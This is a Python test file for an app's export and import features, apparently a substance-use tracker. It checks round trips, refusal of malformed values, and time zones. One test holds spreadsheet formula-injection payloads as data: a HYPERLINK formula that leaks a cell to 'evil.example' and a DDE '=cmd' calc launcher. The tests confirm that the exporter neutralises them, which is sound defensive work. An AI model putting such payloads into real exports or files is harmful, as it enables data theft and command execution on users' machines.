"""Export (CSV, JSON) and import (HarmTrack JSON, CSV, Loop): lossless, previewed, idempotent."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest
from conftest import aware
from sqlalchemy import insert

from harmtrack.core.exchange import export, importers
from harmtrack.core.exchange.importers import writer
from harmtrack.core.exchange.importers.bundle import ImportRefused
from harmtrack.core.storage.data_folder import open_data_folder
from harmtrack.core.storage.db import transaction
from harmtrack.core.storage.schema import (
    action_plans_table,
    alternatives_table,
    goal_versions_table,
    goals_table,
    my_therapist_table,
    sessions_table,
    support_contacts_table,
)
from harmtrack.core.storage.settings import update_settings
from harmtrack.core.tracking import checkins, entries
from harmtrack.core.tracking.trackables import add_custom, list_trackables


def _populate(db) -> None:  # type: ignore[no-untyped-def]
    update_settings(db, timezone="Europe/Berlin", day_start_hour=4, country="GB", backups_keep=5,
                    display_name="Sam")
    add_custom(db, "Gaming", "hours", kind="behaviour", colour="#123456")
    entries.log(db, "alcohol", 2.5, at=aware(2025, 3, 29, 23, 30, "Europe/Berlin"), craving=6, mood=2,
                triggers=["stress", "party"], practices=["ate beforehand"], setting="at home",
                cost=12.4, note="Ünïcode note, with \"quotes\"; and\nnewline", discuss=True)
    entries.log(db, "alcohol", 0, at=aware(2025, 3, 30, 2, 30, "Europe/Berlin"), urge_only=True,
                craving=8, triggers=["stress"])
    entries.log(db, "Gaming", 1.5, at=aware(2025, 3, 31, 20, 0, "Europe/Berlin"),
                extra={"drink": {"ml": 500, "abv": 5}})
    checkins.check_in(db, dt.date(2025, 4, 1))
    with transaction(db) as conn:
        goal_id = conn.execute(insert(goals_table).values(
            trackable_id=1, type="weekly-max", taper_style="linear", archived=True,
            archived_on=dt.date(2025, 4, 20))).lastrowid
        conn.execute(insert(goal_versions_table), [
            dict(goal_id=goal_id, effective_from=dt.date(2025, 3, 1), target=14),
            dict(goal_id=goal_id, effective_from=dt.date(2025, 4, 1), target=10.5)])
        conn.execute(insert(sessions_table).values(date=dt.date(2025, 3, 20), therapist="Dr. K",
                                                   note="talked about weekends",
                                                   agenda="sleep\nthe weekend"))
        conn.execute(insert(sessions_table).values(date=dt.date(2025, 4, 2), planned=True,
                                                   agenda="what to try at the wedding"))
        conn.execute(insert(my_therapist_table).values(name="Dr. K", phone="+44 1234",
                                                       next_session=dt.date(2025, 4, 10)))
        conn.execute(insert(action_plans_table).values(trigger="stress", plan="walk around the block first"))
        conn.execute(insert(alternatives_table).values(text="call a friend"))
        conn.execute(insert(support_contacts_table).values(name="Local line", phone="0800 000",
                                                           note="evenings"))
    from harmtrack.core.care.questionnaires import answers, schedules

    answers.take(db, "dast-10", ["yes", "no", "no"] + ["no"] * 7, dt.date(2025, 3, 25))
    answers.take(db, "phq-9", [1, 1, 0, 0, 0, 0, 0, 0, 0], dt.date(2025, 3, 25))
    schedules.set_schedule(db, "phq-9", every_weeks=4)
    _populate_care_tools(db)


def _populate_care_tools(db) -> None:  # type: ignore[no-untyped-def]
    """The safety plan, a trackable's class, a balance and an ideal-use plan (issue 14)."""
    from harmtrack.core.care import balance, combinations, safety_plan

    gaming = next(t.id for t in list_trackables(db) if t.name == "Gaming")
    safety_plan.set_section(db, "people_to_ask", "Sam, 555 0100")
    combinations.set_own_classes(db, gaming, ["gabapentinoids"])
    balance.add_balance(db, gaming, dt.date(2025, 3, 1), "unwinding", "sleep", today=dt.date(2025, 4, 1))
    balance.set_ideal_use(db, gaming, "weekends, two hours at most")


def test_json_export_imports_losslessly_into_an_empty_folder(db, tmp_path: Path) -> None:
    _populate(db)
    first = tmp_path / "first.json"
    export.write_export(db, "json", first)
    doc = json.loads(first.read_text(encoding="utf-8"))
    assert len(doc["entries"]) == 3 and len(doc["goals"][0]["versions"]) == 2
    assert doc["goals"][0]["archived_on"] == "2025-04-20"
    assert doc["settings"]["timezone"] == "Europe/Berlin"

    empty = tmp_path / "empty"
    other = open_data_folder(empty)
    preview = importers.preview(other, first)
    assert preview.added["entries"] == 3 and preview.refused == []
    assert preview.first_day == dt.date(2025, 3, 29) and preview.last_day == dt.date(2025, 4, 1)
    assert entries.entry_count(other) == 0  # the preview wrote nothing
    importers.run_import(other, first)
    second = tmp_path / "second.json"
    export.write_export(other, "json", second)
    assert second.read_text(encoding="utf-8") == first.read_text(encoding="utf-8")
    # With the day starting at 04:00, the 02:30 urge on the 30th counts for the 29th.
    days = [e.day for e in entries.list_entries(other)]
    assert days == [dt.date(2025, 3, 29), dt.date(2025, 3, 29), dt.date(2025, 3, 31)]

    again = importers.run_import(other, first)
    assert again.entries == 0 and sum(again.added.values()) == 0
    assert again.already_present >= 3 + 1 + 1 + 1 + 1 + 1  # entries, check-in, goal, session, …
    other.close()


def test_csv_export_has_the_documented_columns(utc_settings, tmp_path: Path) -> None:
    entries.log(utc_settings, "alcohol", 2, at=aware(2025, 5, 1, 21, 15), triggers=["a", "b"],
                note="hello, world")
    out = export.write_export(utc_settings, "csv", tmp_path / "e.csv")
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert tuple(rows[0].keys()) == export.CSV_COLUMNS
    assert rows[0]["date"] == "2025-05-01" and rows[0]["time"] == "21:15"
    assert rows[0]["occurred_at"] == "2025-05-01T21:15:00+00:00"
    assert rows[0]["amount"] == "2" and rows[0]["unit"] == "standard drinks"
    assert rows[0]["triggers"] == "a; b" and rows[0]["note"] == "hello, world"
    for column in export.CSV_COLUMNS:
        assert f"``{column}``" in export.__doc__  # every column is documented


def test_csv_round_trip_and_second_import_adds_nothing(utc_settings, tmp_path: Path) -> None:
    entries.log(utc_settings, "alcohol", 2, at=aware(2025, 5, 1, 21, 15), triggers=["a"], mood=3)
    entries.log(utc_settings, "cannabis", 1, at=aware(2025, 5, 2, 10, 0), note="x;y")
    out = export.write_export(utc_settings, "csv", tmp_path / "e.csv")
    # Importing our own export into the same folder adds nothing: the entries are there.
    assert importers.run_import(utc_settings, out).entries == 0
    fresh = open_data_folder(tmp_path / "fresh")
    update_settings(fresh, timezone="UTC")
    first = importers.run_import(fresh, out)
    assert first.entries == 2 and first.new_trackables == ["Alcohol", "Cannabis"]
    assert importers.run_import(fresh, out).entries == 0
    got = entries.list_entries(fresh)
    assert [(e.trackable, e.amount, e.triggers, e.mood, e.note) for e in got] == [
        ("Alcohol", 2.0, ("a",), 3, None), ("Cannabis", 1.0, (), None, "x;y")]
    fresh.close()


def test_csv_bad_rows_are_refused_with_line_numbers_and_the_rest_imported(utc_settings,
                                                                           tmp_path: Path) -> None:
    f = tmp_path / "mine.csv"
    f.write_text("date,time,trackable,amount,unit,mood\n"
                 "2025-01-02,10:00,Alcohol,2,,\n"
                 "2025-01-03,10:00,Alcohol,-1,,\n"
                 "2025-02-30,10:00,Alcohol,1,,\n"
                 "2025-01-04,10:00,Alcohol,1,,9\n"
                 "2025-01-05,10:00,Alcohol,330,ml,\n", encoding="utf-8")
    preview = importers.preview(utc_settings, f)
    assert [(r.where, r.reason.split(" (")[0][:25]) for r in preview.refused] == [
        ("line 3", "amount must be 0 or more"), ("line 4", "date: '2025-02-30' is not"),
        ("line 5", "mood must be a whole numb"), ("line 6", "unit 'ml' does not fit th")]
    result = importers.run_import(utc_settings, f)
    assert result.entries == 1
    assert [e.amount for e in entries.list_entries(utc_settings)] == [2.0]


@pytest.mark.parametrize("sep", [";", "\t"])
def test_csv_saved_with_semicolons_or_tabs_and_decimal_commas(utc_settings, tmp_path: Path,
                                                            sep: str) -> None:
    f = tmp_path / "spreadsheet.csv"
    rows = [["date", "time", "trackable", "amount", "note"],
            ["2025-01-02", "10:00", "Alcohol", "1,5", '"She said ""one more"", I said no"'],
            ["2025-01-03", "11:00", "Alcohol", "2", "plain, with a comma"]]
    f.write_text("".join(sep.join(r) + "\n" for r in rows), encoding="utf-8")
    assert importers.run_import(utc_settings, f).entries == 2
    assert [(e.amount, e.note) for e in entries.list_entries(utc_settings)] == [
        (1.5, 'She said "one more", I said no'), (2.0, "plain, with a comma")]


def test_unreadable_files_are_refused_whole(db, tmp_path: Path) -> None:
    bad = tmp_path / "bad.json"
    bad.write_text('{"format": "harmtrack-export", "version": 1, "entries": [', encoding="utf-8")
    with pytest.raises(ImportRefused, match="not valid JSON \\(line 1"):
        importers.preview(db, bad)
    newer = tmp_path / "newer.json"
    newer.write_text('{"format": "harmtrack-export", "version": 99}', encoding="utf-8")
    with pytest.raises(ImportRefused, match="newer HarmTrack"):
        importers.run_import(db, newer)
    binary = tmp_path / "x.csv"
    binary.write_bytes(b"\xff\xfe\x00garbage")
    with pytest.raises(ImportRefused, match="not UTF-8"):
        importers.preview(db, binary, "csv")
    assert entries.entry_count(db) == 0


def test_import_is_all_or_nothing_when_something_unexpected_fails(db, tmp_path: Path,
                                                                  monkeypatch) -> None:
    f = tmp_path / "mine.csv"
    f.write_text("date,trackable,amount\n2025-01-02,Alcohol,2\n2025-01-03,Alcohol,3\n", encoding="utf-8")
    calls = {"n": 0}
    real = writer.Writer.entry

    def flaky(self, spec):  # type: ignore[no-untyped-def]
        calls["n"] += 1
        if calls["n"] == 2:
            raise RuntimeError("disk full (simulated)")
        return real(self, spec)

    monkeypatch.setattr(writer.Writer, "entry", flaky)
    with pytest.raises(RuntimeError):
        importers.run_import(db, f)
    assert entries.entry_count(db) == 0
    assert list_trackables(db) == []


def test_loop_checkmarks(utc_settings, tmp_path: Path) -> None:
    f = tmp_path / "Checkmarks.csv"
    # Loop's layout: newest first, every cell followed by a comma.
    f.write_text("Date,Walk,Pages read,\n2025-01-03,2,12000,\n2025-01-02,1,0,\n2025-01-01,3,-1,\n",
                 encoding="utf-8")
    preview = importers.preview(utc_settings, f, "loop")
    assert preview.added["entries"] == 2 and preview.new_trackables == ["Walk", "Pages read"]
    assert any("1 implicit" in n for n in preview.not_imported)
    importers.run_import(utc_settings, f, "loop")
    assert [(e.trackable, e.amount, e.day) for e in entries.list_entries(utc_settings)] == [
        ("Walk", 1.0, dt.date(2025, 1, 3)), ("Pages read", 12.0, dt.date(2025, 1, 3))]
    assert importers.run_import(utc_settings, f, "loop").entries == 0


def test_every_column_of_the_schema_is_in_the_json_export(db) -> None:
    """A column added later must be exported too, or this fails (lossless means every column)."""
    from harmtrack.core.storage.schema import metadata

    _populate(db)
    doc = export.build_document(db)
    sections = {"goal_versions": doc["goals"][0]["versions"], "my_therapist": [doc["my_therapist"]]}
    carried_elsewhere = {
        ("entries", "utc_offset_min"),  # the offset is part of occurred_at
        ("entry_tags", "kind"), ("entry_tags", "name"), ("entry_tags", "position"),  # triggers/practices
        ("settings", "key"), ("settings", "value"),  # settings is a key → value object
    }
    for table in metadata.sorted_tables:
        if table.info.get("derived"):  # kept by the database from other tables
            continue
        rows = sections.get(table.name, doc.get(table.name))
        for column in table.columns:
            name = column.name
            if name == "id" or column.foreign_keys or (table.name, name) in carried_elsewhere:
                continue
            assert isinstance(rows, list) and rows, table.name
            assert name in rows[0], f"{table.name}.{name} is missing from the JSON export"


# --- hostile values ----------------------------------------------------------------------

def _doc(**changes: object) -> dict:  # type: ignore[type-arg]
    """A small HarmTrack export: one trackable, one entry, one goal."""
    doc = {"format": "harmtrack-export", "version": 1,
           "trackables": [{"name": "Alcohol", "kind": "substance", "unit": "standard drinks",
                           "colour": "#E69F00", "archived": False, "builtin_key": "alcohol",
                           "sort_order": 1}],
           "entries": [{"trackable": "Alcohol", "occurred_at": "2025-01-01T10:00:00+00:00",
                        "day": "2025-01-01", "amount": 1, "note": "n"}],
           "goals": [{"trackable": "Alcohol", "type": "weekly-max",
                      "versions": [{"effective_from": "2025-01-01", "target": 7}]}]}
    for path, value in changes.items():
        section, index, field = path.split("__")
        doc[section][int(index)][field] = value  # type: ignore[index]
    return doc


HUGE = 10**400  # Python writes it as 401 digits; any float conversion overflows


@pytest.mark.parametrize(("changes", "text_edit", "where", "reason"), [
    ({"entries__0__amount": HUGE}, None, "entries[0]", "amount is too large"),
    ({"entries__0__occurred_at": "9999-12-31T23:59:59-12:00"}, None, "entries[0]",
     "occurred_at is out of range"),
    ({"entries__0__created_at": "9999-12-31T23:59:59-12:00"}, None, "entries[0]",
     "created_at is out of range"),
    ({"trackables__0__archived": "yes"}, None, "trackables[0]",
     "archived must be true or false, not text"),
    ({"entries__0__note": ["a", "list"]}, None, "entries[0]", "note must be text, not a list"),
    ({"entries__0__source": ["a"]}, None, "entries[0]", "source must be text, not a list"),
    ({"trackables__0__colour": ["red"]}, None, "trackables[0]", "colour must be text, not a list"),
    ({"trackables__0__sort_order": 2**64}, None, "trackables[0]", "sort_order must be from"),
    ({"goals__0__type": ["weekly-max"]}, None, "goals[0]", "the goal type must be text, not a list"),
    ({}, ('"target": 7', '"target": 1e999'), "goals[0]", "versions[0].target must be a finite number"),
    ({}, ('"target": 7', '"target": Infinity'), "goals[0]", "versions[0].target must be a finite number"),
    ({}, ('"target": 7', '"target": 1' + "0" * 400), "goals[0]", "versions[0].target is too large"),
    ({"entries__0__extra": {"x": float("nan")}}, None, "entries[0]",
     "extra holds a number that is not finite"),
], ids=["amount-1e400", "occurred-9999", "created-9999", "archived-yes", "note-list", "source-list",
        "colour-list", "sort-order-2**64", "goal-type-list", "target-1e999", "target-Infinity",
        "target-1e400", "extra-nan"])
def test_a_hostile_json_value_is_refused_with_its_item(db, tmp_path: Path, changes, text_edit,
                                                       where, reason) -> None:
    text = json.dumps(_doc(**changes))
    if text_edit:
        text = text.replace(*text_edit)
    f = tmp_path / "hostile.json"
    f.write_text(text, encoding="utf-8")
    before = (db.path.read_bytes(), Path(f"{db.path}-wal").read_bytes())
    preview = importers.preview(db, f)
    assert (db.path.read_bytes(), Path(f"{db.path}-wal").read_bytes()) == before
    assert any(r.where == where and r.reason.startswith(reason) for r in preview.refused), preview.refused
    result = importers.run_import(db, f)
    assert [str(r) for r in result.refused] == [str(r) for r in preview.refused]
    # What the import wrote is sound (strict JSON) and holds every item but the refused ones
    # (an entry or goal of a refused trackable is refused with it).
    doc = json.loads(json.dumps(export.build_document(db), allow_nan=False))
    for section in ("trackables", "entries", "goals"):
        refused = [r for r in result.refused if r.where.startswith(section + "[")]
        assert len(doc[section]) == len(_doc()[section]) - len(refused), section


@pytest.mark.parametrize(("row", "reason"), [
    ("2025-01-01,10:00,9999-12-31T23:59:59-12:00,Alcohol,1", "the time is out of range"),
    ("2025-01-01,10:00,0001-01-01T00:00:00+14:00,Alcohol,1", "the time is out of range"),
    ("2025-01-01,10:00,2025-01-01T10:00:00+00:00,Alcohol,1" + "0" * 400,
     "amount 10000000000000000000 is too large"),
    ("9999-12-31,23:59,,Alcohol,1", "the time must be between 1970 and 2200"),
], ids=["occurred-9999", "occurred-year-1", "amount-1e400", "date-9999"])
def test_a_hostile_csv_value_is_refused_with_its_line(utc_settings, tmp_path: Path, row,
                                                      reason) -> None:
    f = tmp_path / "hostile.csv"
    f.write_text("date,time,occurred_at,trackable,amount\n2025-01-02,09:00,,Alcohol,2\n" + row + "\n",
                 encoding="utf-8")
    preview = importers.preview(utc_settings, f)
    assert [(r.where, r.reason[:len(reason)]) for r in preview.refused] == [("line 3", reason)]
    assert importers.run_import(utc_settings, f).entries == 1
    assert [e.amount for e in entries.list_entries(utc_settings)] == [2.0]


def test_a_hostile_journal_dose_is_refused_with_its_ingestion(utc_settings, tmp_path: Path) -> None:
    ms = 1735740000000
    f = tmp_path / "journal.json"
    f.write_text(json.dumps({"experiences": [{"title": float("nan"), "ingestions": [
        {"substanceName": "MDMA", "time": ms, "dose": HUGE, "units": "mg"}]}, {"ingestions": [
        {"substanceName": "MDMA", "time": ms, "dose": 80, "units": ["mg"]},
        {"substanceName": "MDMA", "time": ms + 1, "dose": 80, "units": "mg"}]}, {"title": float("inf"),
        "ingestions": [{"substanceName": "MDMA", "time": ms + 2, "dose": 80, "units": "mg"}]}]}),
        encoding="utf-8")
    preview = importers.preview(utc_settings, f, "pwj")
    assert [str(r) for r in preview.refused] == [
        "experience 1, ingestion 1: the dose is too large",
        "experience 2, ingestion 1: units must be text, not a list",
        "experience 3, ingestion 1: a field kept with the entry holds a number that is not finite"]
    assert preview.entries == 1


# --- CSV: formula injection and time zones -----------------------------------------------

def test_csv_text_cells_cannot_run_as_formulas_and_round_trip_exactly(utc_settings,
                                                                      tmp_path: Path) -> None:
    hostile = '=HYPERLINK("http://evil.example/?leak="&A2,"click me")'
    add_custom(utc_settings, "=cmd|' /C calc'!A0", "times")
    entries.log(utc_settings, "=cmd|' /C calc'!A0", 2, at=aware(2025, 5, 1, 21, 15), note=hostile,
                triggers=["+SUM(1,2)", "plain"], setting="@home", cost=3.5)
    entries.log(utc_settings, "alcohol", 1, at=aware(2025, 5, 2, 21, 15), note="-5 on last week",
                practices=["\u2212 not a minus"], setting="'=already quoted")
    entries.log(utc_settings, "alcohol", 0, at=aware(2025, 5, 3, 21, 15), urge_only=True,
                craving=4, note="''two apostrophes", setting="'plain apostrophe")
    out = export.write_export(utc_settings, "csv", tmp_path / "e.csv")
    text = out.read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))[1:]
    danger = ("=", "+", "-", "@", "\t", "\r")
    text_columns = [i for i, c in enumerate(export.CSV_COLUMNS) if c in export.CSV_TEXT_COLUMNS]
    for row in rows:
        assert not any(row[i].startswith(danger) for i in text_columns), row
    assert rows[0][export.CSV_COLUMNS.index("note")] == "'" + hostile
    assert rows[0][export.CSV_COLUMNS.index("trackable")] == "'=cmd|' /C calc'!A0"
    assert rows[1][export.CSV_COLUMNS.index("setting")] == "''=already quoted"
    assert rows[2][export.CSV_COLUMNS.index("setting")] == "'plain apostrophe"  # nothing to undo
    # Numbers stay numbers: written bare, never prefixed or quoted.
    assert ',2,"times",' in text and ',3.5,' in text and ',4,' in text

    fresh = open_data_folder(tmp_path / "fresh")
    update_settings(fresh, timezone="UTC")
    result = importers.run_import(fresh, out)
    assert result.entries == 3 and result.refused == []
    got = [(e.trackable, e.note, e.triggers, e.practices, e.setting) for e in entries.list_entries(fresh)]
    assert got == [("=cmd|' /C calc'!A0", hostile, ("+SUM(1,2)", "plain"), (), "@home"),
                   ("Alcohol", "-5 on last week", (), ("\u2212 not a minus",), "'=already quoted"),
                   ("Alcohol", "''two apostrophes", (), (), "'plain apostrophe")]
    again = export.write_export(fresh, "csv", tmp_path / "again.csv")
    assert again.read_text(encoding="utf-8") == text
    fresh.close()


def test_neutralised_cells_restore_exactly() -> None:
    for cell in ["=1", "'=1", "''=1", "'", "''", "'x", "x'", "", "-", "@", "\t1", "plain", "'\r"]:
        assert export.restore_cell(export.neutralise(cell)) == cell, cell
        assert not export.neutralise(cell).startswith(export.FORMULA_STARTS)


BERLIN = "Europe/Berlin"


def _berlin_entries(db) -> None:  # type: ignore[no-untyped-def]
    update_settings(db, timezone=BERLIN, day_start_hour=4)
    # Logged on a trip (Tokyo, New York): the offset stays with the entry.
    entries.log(db, "alcohol", 1, at=aware(2025, 3, 29, 8, 0, "Asia/Tokyo"))
    entries.log(db, "alcohol", 2, at=aware(2025, 3, 28, 22, 30, "America/New_York"))
    # The night clocks went forward (02:00 → 03:00) and the night they went back.
    entries.log(db, "alcohol", 3, at=aware(2025, 3, 30, 1, 30, BERLIN))
    entries.log(db, "alcohol", 4, at=aware(2025, 3, 30, 3, 30, BERLIN))
    for n, hours in ((5, 2), (6, 1)):  # 02:30 twice: first at +02:00, an hour later at +01:00
        entries.log(db, "alcohol", n, at=dt.datetime(2025, 10, 26, 2, 30,
                                                     tzinfo=dt.timezone(dt.timedelta(hours=hours))))


def test_csv_date_and_time_are_the_users_zone_and_name_the_real_moment(db, tmp_path: Path) -> None:
    from zoneinfo import ZoneInfo

    _berlin_entries(db)
    out = export.write_export(db, "csv", tmp_path / "e.csv")
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    berlin = ZoneInfo(BERLIN)
    got = [(r["date"], r["time"], r["occurred_at"]) for r in rows]
    assert got == [
        ("2025-03-28", "00:00", "2025-03-29T08:00:00+09:00"),  # midnight in Berlin, before 04:00
        ("2025-03-28", "03:30", "2025-03-28T22:30:00-04:00"),  # 03:30 in Berlin, before 04:00
        ("2025-03-29", "01:30", "2025-03-30T01:30:00+01:00"),
        ("2025-03-29", "03:30", "2025-03-30T03:30:00+02:00"),
        ("2025-10-25", "02:30", "2025-10-26T02:30:00+02:00"),
        ("2025-10-25", "02:30", "2025-10-26T02:30:00+01:00"),
    ]
    for r in rows:
        instant = dt.datetime.fromisoformat(r["occurred_at"])
        clock = dt.time.fromisoformat(r["time"])
        calendar = dt.date.fromisoformat(r["date"]) + dt.timedelta(days=clock.hour < 4)
        # date + time is the wall-clock moment in Berlin of the instant (never one that
        # did not happen), and the day matches the one the app counts the entry for.
        assert dt.datetime.combine(calendar, clock) == instant.astimezone(berlin).replace(tzinfo=None)
    assert [e.day.isoformat() for e in entries.list_entries(db)] == [r["date"] for r in rows]


def test_csv_round_trip_across_zones_and_dst_is_exact(db, tmp_path: Path) -> None:
    _berlin_entries(db)
    out = export.write_export(db, "csv", tmp_path / "e.csv")
    fresh = open_data_folder(tmp_path / "fresh")
    update_settings(fresh, timezone=BERLIN, day_start_hour=4)
    assert importers.run_import(fresh, out).entries == 6
    again = export.write_export(fresh, "csv", tmp_path / "again.csv")
    assert again.read_text(encoding="utf-8") == out.read_text(encoding="utf-8")
    same = [(e.occurred_at, e.day, e.amount) for e in entries.list_entries(fresh)]
    assert same == [(e.occurred_at, e.day, e.amount) for e in entries.list_entries(db)]
    fresh.close()


def test_csv_with_only_date_and_time_counts_night_entries_for_the_day_before(db,
                                                                             tmp_path: Path) -> None:
    update_settings(db, timezone=BERLIN, day_start_hour=4)
    f = tmp_path / "sheet.csv"
    f.write_text("date,time,trackable,amount\n2025-03-29,01:30,Alcohol,1\n2025-03-29,23:00,Alcohol,2\n",
                 encoding="utf-8")
    importers.run_import(db, f)
    got = [(e.day, e.occurred_at.astimezone(dt.UTC).isoformat()) for e in entries.list_entries(db)]
    assert got == [(dt.date(2025, 3, 29), "2025-03-29T22:00:00+00:00"),
                   (dt.date(2025, 3, 29), "2025-03-30T00:30:00+00:00")]


def test_a_loop_file_with_a_stray_carriage_return_is_refused_with_its_line(db, tmp_path: Path) -> None:
    f = tmp_path / "Checkmarks.csv"
    f.write_bytes(b"Date,Walk,\n2025-01-05,2,\n\r025-01-04,2,\n")
    with pytest.raises(ImportRefused, match="cannot be read at line 3"):
        importers.preview(db, f, "loop")


def test_the_cli_preview_names_hostile_items_and_a_damaged_file_exits_2(tmp_path: Path, capsys) -> None:
    from harmtrack.cli import run

    folder = str(tmp_path / "data")
    f = tmp_path / "hostile.json"
    f.write_text(json.dumps(_doc(entries__0__occurred_at="9999-12-31T23:59:59-12:00")), encoding="utf-8")
    assert run(["--data-dir", folder, "import", str(f), "--dry-run"]) == 0
    out = capsys.readouterr().out
    assert "entries[0]: occurred_at is out of range" in out and "Traceback" not in out
    f.write_text(json.dumps(_doc(), indent=1)[:200], encoding="utf-8")  # cut short
    assert run(["--data-dir", folder, "import", str(f)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "is not valid JSON (line " in err
    assert run(["--data-dir", folder, "entries"]) == 0 and "Alcohol" not in capsys.readouterr().out


def test_a_file_whose_every_item_is_refused_writes_nothing(db, tmp_path: Path) -> None:
    from harmtrack.core.storage import backups

    f = tmp_path / "all-bad.json"
    f.write_text(json.dumps({"format": "harmtrack-export", "version": 1,
                             "trackables": [{"name": "Alcohol", "archived": "yes"}],
                             "entries": [{"trackable": "Alcohol", "amount": 1,
                                          "occurred_at": "9999-12-31T23:59:59-12:00"}]}),
                 encoding="utf-8")
    before = sorted(p.name for p in db.path.parent.rglob("*"))
    digest = db.path.read_bytes()
    result = importers.run_import(db, f)
    assert sum(result.added.values()) == 0 and len(result.refused) == 2 and result.backup is None
    assert not [b for b in backups.list_backups(db.path.parent) if b.kind == "before-import"]
    assert sorted(p.name for p in db.path.parent.rglob("*")) == before
    assert db.path.read_bytes() == digest


def test_the_json_export_is_strict_even_for_infinity_an_older_import_stored(db, tmp_path: Path) -> None:
    entries.log(db, "alcohol", 1, at=aware(2025, 1, 1), extra={"x": 1})
    with transaction(db) as conn:
        goal_id = conn.execute(insert(goals_table).values(trackable_id=1, type="weekly-max")).lastrowid
        conn.execute(insert(goal_versions_table).values(goal_id=goal_id, effective_from=dt.date(2025, 1, 1),
                                                        target=float("inf")))
    with db.engine.begin() as conn:
        conn.exec_driver_sql("UPDATE entries SET extra = '{\"x\": Infinity, \"y\": NaN}'")
    text = export.write_export(db, "json", tmp_path / "e.json").read_text(encoding="utf-8")
    assert "Infinity" not in text and "NaN" not in text
    doc = json.loads(text, parse_constant=lambda c: pytest.fail(f"{c} in the export"))
    assert doc["goals"][0]["versions"][0]["target"] is None
    assert doc["entries"][0]["extra"] == {"x": None, "y": None}


def test_csv_cells_that_cannot_be_stored_are_refused_with_their_line(utc_settings, tmp_path: Path) -> None:
    f = tmp_path / "odd.csv"
    f.write_text("date,trackable,amount,source\n2025-01-02,Walk\x00ing,1,\n2025-01-02,Walk,1," + "s" * 41
                 + "\n2025-01-02,Walk,1,\n", encoding="utf-8")
    preview = importers.preview(utc_settings, f)
    assert [str(r) for r in preview.refused] == [
        "line 2: the trackable's name contains a character that cannot be stored",
        "line 3: source can be at most 40 characters"]
    assert preview.entries == 1
